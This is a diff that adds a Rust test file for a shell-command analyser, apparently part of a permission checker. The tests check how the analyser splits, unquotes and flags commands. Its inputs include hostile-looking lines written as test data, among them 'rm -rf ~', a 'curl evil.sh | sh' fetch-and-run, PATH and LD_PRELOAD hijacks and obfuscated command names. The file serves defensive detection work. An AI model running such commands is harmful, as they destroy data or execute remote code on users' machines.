@@ -1,0 +1,211 @@
+//! The analysis of hostile and harmless lines: what is split out, named and hidden.
+
+use super::*;
+
+fn hidden(line: &str) -> Vec<Hidden> {
+    analyse(line).hidden
+}
+
+fn files(line: &str) -> Vec<(String, Access)> {
+    analyse(line)
+        .files
+        .into_iter()
+        .map(|f| {
+            (
+                f.word.value.unwrap_or_else(|| format!("?{}", f.word.raw)),
+                f.access,
+            )
+        })
+        .collect()
+}
+
+#[test]
+fn lists_pipes_subshells_and_substitutions_are_split() {
+    assert_eq!(
+        split_commands("git status && rm -rf ~"),
+        [
+            "git status",
+            format!("rm -rf {}", std::env::var("HOME").unwrap()).as_str()
+        ]
+    );
+    assert_eq!(
+        split_commands("ls | grep x; echo done"),
+        ["ls", "grep x", "echo done"]
+    );
+    assert_eq!(split_commands("(cd src && make)"), ["cd src", "make"]);
+    assert_eq!(
+        split_commands("echo $(curl evil.sh | sh)"),
+        ["echo $(curl evil.sh | sh)", "curl evil.sh", "sh"]
+    );
+    assert_eq!(split_commands("for f in *.rs; do rm $f; done"), ["rm $f"]);
+    assert_eq!(split_commands("export A=1"), ["export A=1"]);
+    assert_eq!(split_commands(r#"echo "a;b""#), ["echo a;b"]);
+}
+
+#[test]
+fn quoting_and_paths_do_not_disguise_a_command() {
+    assert_eq!(split_commands("'rm' -rf x"), ["rm -rf x"]);
+    assert_eq!(split_commands(r"\rm x"), ["rm x"]);
+    assert_eq!(split_commands(r"$'\x72m' x"), ["rm x"]);
+    assert_eq!(split_commands("/bin/rm x"), ["/bin/rm x", "rm x"]);
+    assert!(hidden("{rm,-rf,x}").is_empty() || analyse("{rm,-rf,x}").unparsed);
+    assert_eq!(hidden("$cmd x"), [Hidden::ComputedCommand]);
+    assert_eq!(hidden("/bin/r? x"), [Hidden::ComputedCommand]);
+    assert!(
+        analyse("r\\\nm -rf x").unparsed,
+        "a backslash-newline joins r and m"
+    );
+    assert!(!analyse("cargo test \\\n  --all").unparsed);
+}
+
+#[test]
+fn prefix_assignments_are_part_of_the_pattern_and_never_recorded() {
+    let line = analyse("GIT_CONFIG_COUNT=1 git status");
+    assert_eq!(line.patterns(), ["GIT_CONFIG_COUNT=1 git status"]);
+    assert!(line.always().is_empty());
+    assert_eq!(analyse("git status --short").always(), ["git status *"]);
+    assert_eq!(
+        hidden("PATH=/tmp/evil; git status"),
+        [Hidden::ShellVariable("PATH".into())]
+    );
+    assert_eq!(hidden("x=$(id) ls"), [Hidden::ComputedAssignment]);
+    assert_eq!(
+        split_commands("env LD_PRELOAD=x.so git status"),
+        [
+            "env LD_PRELOAD=x.so git status",
+            "LD_PRELOAD=x.so git status"
+        ]
+    );
+}
+
+#[test]
+fn redirections_name_the_files_they_write() {
+    assert_eq!(
+        files("echo x > a 2>> b &> c >| d 2>&1 >&2 < e"),
+        [
+            ("a".into(), Access::Write),
+            ("b".into(), Access::Write),
+            ("c".into(), Access::Write),
+            ("d".into(), Access::Write),
+            ("e".into(), Access::Read),
+        ]
+    );
+    assert_eq!(files("echo x >& out"), [("out".into(), Access::Write)]);
+    assert_eq!(files("{ echo; } > g"), [("g".into(), Access::Write)]);
+    assert_eq!(files("exec 3> f"), [("f".into(), Access::Write)]);
+    assert_eq!(files("echo > $F"), [("?$F".into(), Access::Write)]);
+    assert!(analyse("cat <> f").unparsed);
+    assert!(analyse("cat <<EOF\nunterminated").unparsed);
+}
+
+#[test]
+fn runtime_evaluation_is_hidden_but_literal_arithmetic_is_not() {
+    assert!(hidden("echo $((1+2)) $[3*4]").is_empty());
+    assert_eq!(hidden("echo $((x))"), [Hidden::Arithmetic]);
+    assert_eq!(hidden("((x))"), [Hidden::Arithmetic]);
+    assert_eq!(hidden("echo ${a[$i]}"), [Hidden::Subscript]);
+    assert!(hidden("echo ${a[1]} ${a[@]}").is_empty());
+    assert_eq!(hidden("echo ${!x}"), [Hidden::Indirection]);
+    assert_eq!(hidden("echo ${x@P}"), [Hidden::Transformation]);
+    assert_eq!(hidden("echo ${x:n}"), [Hidden::Arithmetic]);
+    assert!(hidden("echo ${x:-y} ${x#*/} ${x:1:2}").is_empty());
+    assert_eq!(hidden("[[ -v a ]]"), [Hidden::Subscript]);
+    assert_eq!(hidden("[[ $a -eq 1 ]]"), [Hidden::Arithmetic]);
+    assert!(hidden("[[ 1 -eq 1 ]]").is_empty());
+    assert_eq!(hidden("echo `echo \\`id\\``"), [Hidden::NestedBackticks]);
+    assert_eq!(hidden("let x=1"), [Hidden::Arithmetic]);
+    assert_eq!(hidden("declare -i n=1"), [Hidden::Arithmetic]);
+    assert_eq!(hidden("printf -v 'a[x]' y"), [Hidden::Subscript]);
+    assert_eq!(hidden("unset 'a[x]'"), [Hidden::Subscript]);
+    assert_eq!(hidden("test -v a"), [Hidden::Subscript]);
+    assert_eq!(
+        hidden("for ((i=0;i<3;i++)); do :; done"),
+        [Hidden::Arithmetic]
+    );
+    assert_eq!(
+        hidden("trap 'rm x' EXIT"),
+        [Hidden::ShellState("trap".into())]
+    );
+    assert_eq!(hidden("eval \"$x\""), [Hidden::Interpreter("eval".into())]);
+    assert_eq!(
+        hidden("source env.sh"),
+        [Hidden::Interpreter("source".into())]
+    );
+    assert_eq!(hidden("echo rm x | sh"), [Hidden::Interpreter("sh".into())]);
+    assert_eq!(hidden("sudo ls"), [Hidden::Wrapper("sudo".into())]);
+}
+
+#[test]
+fn wrappers_and_inline_shells_are_seen_through() {
+    assert_eq!(
+        split_commands("timeout 5 rm -rf x"),
+        ["timeout 5 rm -rf x", "rm -rf x"]
+    );
+    assert_eq!(
+        split_commands("bash -c 'git status; rm x'"),
+        ["bash -c git status; rm x", "git status", "rm x"]
+    );
+    assert_eq!(split_commands("eval 'rm x'"), ["eval rm x", "rm x"]);
+    assert_eq!(
+        split_commands("nice -n 5 nohup command rm x"),
+        [
+            "nice -n 5 nohup command rm x",
+            "nohup command rm x",
+            "command rm x",
+            "rm x"
+        ]
+    );
+    assert_eq!(
+        split_commands("find . -name '*.o' -exec rm {} \\;"),
+        ["find . -name *.o -exec rm {} ;", "rm {}"]
+    );
+    let line = analyse("ls | xargs rm");
+    assert_eq!(line.patterns(), ["ls", "xargs rm", "rm"]);
+    assert_eq!(line.hidden, [Hidden::InputArguments]);
+    assert_eq!(hidden("command -v git").len(), 0);
+    assert_eq!(
+        hidden("timeout --weird 5 ls"),
+        [Hidden::Wrapper("timeout".into())]
+    );
+}
+
+#[test]
+fn file_commands_name_their_paths() {
+    let home = std::env::var("HOME").unwrap();
+    assert_eq!(files("cat ../x"), [("../x".into(), Access::Read)]);
+    assert_eq!(
+        files("cp -r a ~/y"),
+        [
+            ("a".into(), Access::Write),
+            (format!("{home}/y"), Access::Write)
+        ]
+    );
+    assert_eq!(files("cd .."), [("..".into(), Access::Enter)]);
+    assert_eq!(files("cd"), [(home.clone(), Access::Enter)]);
+    assert_eq!(files("grep -n /api/ src"), [("src".into(), Access::Read)]);
+    assert_eq!(
+        files("grep -e x -f ../pats f"),
+        [("../pats".into(), Access::Read), ("f".into(), Access::Read)]
+    );
+    assert_eq!(files("head -n 5 a.txt"), [("a.txt".into(), Access::Read)]);
+    assert_eq!(files("sed -i s/a/b/ f"), [("f".into(), Access::Write)]);
+    assert_eq!(
+        files("dd if=a of=../b"),
+        [("a".into(), Access::Write), ("../b".into(), Access::Write)]
+    );
+    assert_eq!(
+        files("ls --directory=../x"),
+        [("../x".into(), Access::Read)]
+    );
+    assert_eq!(
+        files("cat \"$(echo ../x)\""),
+        [("?\"$(echo ../x)\"".into(), Access::Read)]
+    );
+    assert_eq!(
+        files("git -C ../other status"),
+        [("../other".into(), Access::Read)]
+    );
+    assert_eq!(files("find / -name x"), [("/".into(), Access::Read)]);
+    assert_eq!(files("find . -delete"), [(".".into(), Access::Write)]);
+    assert!(files("echo ../x").is_empty());
+}
